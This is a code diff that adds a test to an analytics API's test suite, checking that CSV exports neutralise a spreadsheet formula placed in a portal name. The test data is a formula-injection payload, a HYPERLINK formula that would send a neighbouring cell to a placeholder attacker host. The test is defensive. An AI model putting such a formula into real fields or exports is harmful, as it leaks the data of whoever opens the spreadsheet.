@@ -285,6 +285,26 @@ class TestSummary:
             "bounce_rate": "0.3333",
         }
 
+    async def test_a_formula_in_a_portal_name_is_text_in_the_csv(self, analytics, people, client):
+        """The attack: a province admin renames their portal to a formula that, opened in
+        Excel by central staff, would send the neighbouring cell to another site."""
+        attack = '=HYPERLINK("https://evil.example/?leak="&B3,"Hà Nội")'
+        r = await client.patch(
+            "/v1/portals/da-nang", json={"name": attack}, headers=people["other"].headers
+        )
+        assert r.status_code == 200, r.text
+        await traffic(analytics)
+        r = await analytics.get(
+            "/v1/analytics/summary?from=2026-11-20&to=2026-11-20&format=csv",
+            headers=people["super"].headers,
+        )
+        assert r.status_code == 200, r.text
+        text = r.content.decode("utf-8-sig")
+        rows = {row["portal"]: row for row in csv.DictReader(io.StringIO(text))}
+        assert rows["da-nang"]["name"] == "'" + attack
+        assert rows["da-nang"]["pageviews"] == "1"  # numbers stay numbers
+        assert ",=HYPERLINK" not in text
+
     async def test_provincial_members_are_403(self, analytics, people, db):
         await make_central(db)
         r = await analytics.get("/v1/analytics/summary", headers=people["editor"].headers)
